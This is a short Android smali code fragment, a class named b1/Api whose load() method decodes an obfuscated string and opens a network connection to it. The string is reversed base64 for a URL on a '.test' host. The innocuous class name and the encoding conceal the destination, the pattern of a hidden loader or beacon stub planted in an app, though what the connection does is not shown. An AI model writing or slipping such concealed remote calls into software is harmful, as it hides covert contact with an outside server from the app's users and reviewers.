.class public Lb1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "=s2YhJ2LxY3L0NXZ05Ccvh2cuYXZy9yL6MHc0RHa"
    invoke-static {v0}, Lb1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lb1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

